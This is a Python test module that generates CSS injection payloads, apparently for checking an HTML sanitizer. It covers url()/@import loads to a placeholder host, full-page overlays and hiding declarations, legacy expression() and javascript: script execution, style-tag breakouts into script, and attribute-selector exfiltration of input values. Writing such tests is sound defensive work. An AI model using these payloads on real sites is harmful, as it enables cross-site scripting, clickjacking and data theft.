"""Styles that load, cover, run or watch: in attributes, in elements and in old engines' spellings."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, NUMBER

_PROPERTIES = (
    "background background-image border-image border-image-source clip-path content cursor filter backdrop-filter "
    "list-style list-style-image marker-start mask mask-image offset-path shape-outside src symbols fill stroke "
    "-webkit-mask-image -webkit-border-image -webkit-box-reflect -moz-binding behavior color font-family"
).split()
_WAYS = (
    f"url({HOST})",
    f"url('{HOST}')",
    f"URL( {HOST} )",
    f"image-set('{HOST}' 1x)",
    f"\\75\\72\\6c({HOST})",
    f"/**/url/**/({HOST})",
    f"var(--x,url({HOST}))",
    f"cross-fade(url({HOST}),red 50%)",
)
_DECLARATIONS = (
    "position:fixed;inset:0;z-index:99999",
    "position:absolute;top:0;left:0;width:100%;height:100%",
    "margin:-9999px",
    "margin-top:-200px;padding:200px",
    "transform:scale(99)",
    "opacity:0",
    "display:none;position:fixed",
    "font-size:0",
    "pointer-events:none",
    "visibility:hidden;position:sticky",
    "color:transparent",
    "color:rgb(0,0,0);position:fixed",
    "color:red;;;}}p{position:fixed",
    "color:red!important;position:fixed!important",
    "color:red/*;*/;position:fixed",
    "color:red;/*;position:fixed",
    "col/**/or:red;position:/**/fixed",
    "\\63olor:red;\\70osition:fixed",
    "COLOR:RED;POSITION:FIXED",
    "color :red; position :fixed",
    "color:'red;position:fixed'",
    "color:(red;position:fixed)",
    "color:[red;position:fixed]",
    "color:{red;position:fixed}",
    "color:red\\;position:fixed",
    "color:red;\nposition\n:\nfixed",
    "color:red;\x00position:fixed",
    "--x:fixed;position:var(--x)",
    "all:initial;position:fixed",
    "animation:x 1s;animation-name:y",
    "view-transition-name:x",
    "anchor-name:--x;position-anchor:--x",
    "content:attr(title)",
    "direction:rtl;unicode-bidi:bidi-override",
    "writing-mode:vertical-rl",
    "text-align:left;float:left;position:fixed",
    "color:#" + "f" * 5000,
    "color:" + "(" * 3000,
    ";" * 5000 + "position:fixed",
)
_OLD = (
    f"width:expression({CALL})",
    f"width:exp/**/ression({CALL})",
    f"width:e\\xpression({CALL})",
    f"width:\\65xpression({CALL})",
    f"xss:expr/*XSS*/ession({CALL})",
    f"color:expression({CALL})",
    f"behavior:url(#default#time2)'onbegin='{CALL}",
    f"-moz-binding:url({HOST}#x)",
    f"background-image:url(javascript:{CALL})",
    f"background:url(&#1;javascript:{CALL})",
    f"background-image:\\0075\\0072\\006C\\0028'javascript:{CALL}'\\0029",
    f"list-style-image:url(javascript:{CALL})",
    f"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{HOST}')",
    f"@import '{HOST}'",
    f"color:red;@import url({HOST})",
    f"color:red}}</style><script>{CALL}</script>",
    f"color:red&quot; onclick=&quot;{CALL}",
    f"font-family:'{HOST}';src:url({HOST})",
    f"color:red;background:url(data:image/svg+xml,<svg onload={CALL}>)",
    f"-o-link:'javascript:{CALL}';-o-link-source:current",
)
_SHEETS = (
    f"@import '{HOST}';",
    f"@import url({HOST});",
    f'@import "{HOST}" layer(x);',
    f"@\\69mport '{HOST}';",
    f"@charset 'utf-7';@import '{HOST}';",
    f"@font-face{{font-family:x;src:url({HOST})}}p{{font-family:x}}",
    f"p{{background:url({HOST})}}",
    f"*{{background:image-set('{HOST}' 1x)}}",
    f"p::before{{content:url({HOST})}}",
    f"input[value^=a]{{background:url({HOST})}}",
    f":root{{--x:url({HOST})}}p{{background:var(--x)}}",
    f"@namespace x url({HOST});",
    f"@property --x{{syntax:'<url>';inherits:false;initial-value:url({HOST})}}",
    f"@counter-style x{{system:cyclic;symbols:url({HOST})}}",
    f"@media all{{p{{background:url({HOST})}}}}",
    f"@supports (x:y) or (color:red){{p{{cursor:url({HOST}),auto}}}}",
    f"@layer x{{p{{background:url({HOST})}}}}",
    f"@scope(p){{:scope{{background:url({HOST})}}}}",
    f"@starting-style{{p{{background:url({HOST})}}}}",
    f"<!--p{{background:url({HOST})}}-->",
    f"p{{behavior:url({HOST})}}",
    f"body{{display:none}}/*{NUMBER}*/",
)


def payloads() -> Iterator[str]:
    """Yield each property with each way to name an address, the declarations that cover or move, and style sheets."""
    for number, name in enumerate(_PROPERTIES):
        yield from (f'<p style="{name}:{way}">x</p>' for way in (_WAYS[number % 8], _WAYS[(number + 3) % 8], _WAYS[0]))
    yield from (f'<p style="{declaration}">x</p>' for declaration in _DECLARATIONS)
    yield from (f'<span style="{old}">x</span>' for old in _OLD)
    for sheet in _SHEETS:
        yield f"<style>{sheet}</style><p>x</p>"
        yield f"<p>x<style type=text/css media=all>{sheet}"
        yield f'<link rel=stylesheet href="data:text/css,{sheet.replace(chr(34), "%22")}">'
    yield from (f"<p style='color:red' style='{each}'>x</p>" for each in _WAYS)
    yield from (
        f"<p class='{each}'>x</p>" for each in ("sf-vh", "share controls", "font-scale-p2", "sf-x\x00", "SF-VH")
    )
